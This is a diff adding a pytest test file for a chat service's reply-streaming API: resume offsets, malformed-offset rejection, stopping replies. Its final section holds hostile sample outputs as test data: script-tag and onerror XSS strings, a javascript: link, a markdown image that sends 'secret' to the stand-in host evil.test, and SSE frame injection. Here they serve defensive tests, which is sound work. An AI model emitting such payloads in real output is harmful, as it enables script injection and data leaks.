@@ -1,0 +1,143 @@
+"""Following and stopping replies over HTTP."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import AsyncIterator
+
+import pytest
+from tests.unit.entrypoints.chatcore_service.http_service import ALICE, HttpService, running_service
+
+from chatcore.errors import InferenceUnreachableError
+from chatcore_memory import DONE_FRAME, token_frame
+
+
+@pytest.fixture
+async def service() -> AsyncIterator[HttpService]:
+    async with running_service() as service:
+        yield service
+
+
+def frames(body: str) -> list[dict[str, object]]:
+    return [json.loads(line.removeprefix("data: ")) for line in body.splitlines() if line.startswith("data: ")]
+
+
+@pytest.mark.parametrize(
+    ("offset", "expected"),
+    [
+        ("0", 'id: 5\ndata: {"token":"H\\u00e9llo"}\n\nid: 5\ndata: {"done":true}\n\n'),
+        ("2", 'id: 5\ndata: {"token":"llo"}\n\nid: 5\ndata: {"done":true}\n\n'),
+        ("02", 'id: 5\ndata: {"token":"llo"}\n\nid: 5\ndata: {"done":true}\n\n'),
+        ("6", 'id: 5\ndata: {"rewind":5}\n\nid: 5\ndata: {"done":true}\n\n'),
+        ("9007199254740992", 'id: 5\ndata: {"rewind":5}\n\nid: 5\ndata: {"done":true}\n\n'),
+    ],
+)
+async def test_a_reply_goes_on_from_where_the_reader_left_off(service: HttpService, offset: str, expected: str) -> None:
+    service.inference.say("Hé", "llo")
+    opened = await service.turn(conversation := await service.conversation())
+    path = f"{conversation}/messages/{opened['messages'][-1]['id']}/stream"
+
+    by_header = await service.client.get(path, headers={**ALICE, "Last-Event-ID": offset})
+    by_query = await service.client.get(f"{path}?offset={offset}", headers=ALICE)
+    assert by_header.text == by_query.text == expected
+
+
+async def test_a_reader_with_all_of_a_finished_reply_gets_204(service: HttpService) -> None:
+    opened = await service.turn(conversation := await service.conversation())
+    path = f"{conversation}/messages/{opened['messages'][-1]['id']}/stream"
+
+    response = await service.client.get(f"{path}?offset=1", headers={**ALICE, "Last-Event-ID": "5"})
+    assert (response.status_code, response.content) == (204, b"")
+
+
+@pytest.mark.parametrize(
+    "offset", ["-1", "+1", "1e3", "0x1", "1.0", "", " ", "abc", "9007199254740993", "9" * 20, "9" * 10_000, "1_0"]
+)
+async def test_a_malformed_offset_is_refused(service: HttpService, offset: str) -> None:
+    opened = await service.turn(conversation := await service.conversation())
+    path = f"{conversation}/messages/{opened['messages'][-1]['id']}/stream"
+
+    by_header = await service.client.get(path, headers={**ALICE, "Last-Event-ID": offset})
+    by_query = await service.client.get(path, params={"offset": offset}, headers=ALICE)
+    assert (by_header.status_code, by_query.status_code) == (400, 400)
+
+
+@pytest.mark.parametrize(
+    ("query", "last_event_id", "status"),
+    [("", None, 200), ("?offset=0", None, 200), ("", "0", 204), ("?offset=0", "0", 204), ("?offset=1", None, 200)],
+)
+async def test_a_reader_of_a_reply_without_text_is_told_how_it_ended(
+    service: HttpService, query: str, last_event_id: str | None, status: int
+) -> None:
+    service.inference.play(InferenceUnreachableError())
+    path = f"{await service.conversation()}/messages"
+    stream = (await service.client.post(path, json={"content": "hi"}, headers=ALICE)).headers["content-location"]
+    headers = ALICE if last_event_id is None else {**ALICE, "Last-Event-ID": last_event_id}
+
+    response = await service.client.get(f"{stream}{query}", headers=headers)
+    assert response.status_code == status
+    if status == 200:
+        error, done = frames(response.text)[-2:]
+        assert (error["error"], done) == ("inference_unreachable", {"done": True})
+
+
+async def test_two_offsets_are_refused(service: HttpService) -> None:
+    opened = await service.turn(conversation := await service.conversation())
+    path = f"{conversation}/messages/{opened['messages'][-1]['id']}/stream"
+
+    by_header = await service.client.get(path, headers=[*ALICE.items(), ("Last-Event-ID", "1"), ("Last-Event-ID", "1")])
+    by_query = await service.client.get(f"{path}?offset=1&offset=1", headers=ALICE)
+    assert (by_header.status_code, by_query.status_code) == (400, 400)
+
+
+async def test_a_users_message_cannot_be_followed_or_stopped(service: HttpService) -> None:
+    opened = await service.turn(conversation := await service.conversation())
+    question = f"{conversation}/messages/{opened['messages'][0]['id']}"
+
+    assert (await service.client.get(f"{question}/stream", headers=ALICE)).status_code == 404
+    assert (await service.client.post(f"{question}/stop", headers=ALICE)).status_code == 404
+
+
+async def test_a_stopped_reply_keeps_its_text(service: HttpService) -> None:
+    reply = await service.paused_reply(await service.conversation())
+    await service.inference.until_paused()
+
+    response = await service.client.post(f"{reply}/stop", headers=ALICE)
+    again = await service.client.post(f"{reply}/stop", headers=ALICE)
+    assert response.status_code == 200
+    assert (response.json()["status"], response.json()["content"]) == ("stopped", "Hel")
+    assert again.json() == response.json()
+    followed = await service.client.get(f"{reply}/stream", headers=ALICE)
+    assert [frame.get("error") for frame in frames(followed.text)] == [None, "stopped", None]
+
+
+# -- Whatever a model says is data: it is kept as it is, and nothing interprets it -----------------------------------
+
+SAYINGS = {
+    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
+    "a link that runs": "[click](javascript:alert(1)) ![x](https://evil.test/?q=secret)",
+    "frames": '\n\ndata: {"done":true}\n\nevent: error\rid: 7\n: comment\n\n',
+    "lines that some take for ended": "a\u2028b\u2029c\u0085d",
+}
+
+
+@pytest.mark.parametrize("saying", SAYINGS.values(), ids=SAYINGS)
+async def test_what_a_model_says_is_stored_and_returned_as_data(saying: str) -> None:
+    async with running_service() as service:
+        service.inference.play(token_frame(saying), DONE_FRAME)
+        conversation = await service.conversation()
+        reply = (await service.turn(conversation))["messages"][-1]
+        opened = await service.client.get(conversation, headers=ALICE)
+        resumed = await service.client.get(f"{conversation}/messages/{reply['id']}/stream", headers=ALICE)
+
+    assert reply["content"] == saying
+    assert opened.headers["content-type"] == "application/json"
+    assert resumed.headers["content-type"] == "text/event-stream"
+    for response in (opened, resumed):
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert response.headers["content-security-policy"].startswith("default-src 'none'")
+    *frames, rest = resumed.text.split("\n\n")
+    assert rest == ""
+    said = [json.loads(frame.partition("data: ")[2]) for frame in frames]
+    assert "".join(frame.get("token", "") for frame in said) == saying
+    assert said[-1] == {"done": True}
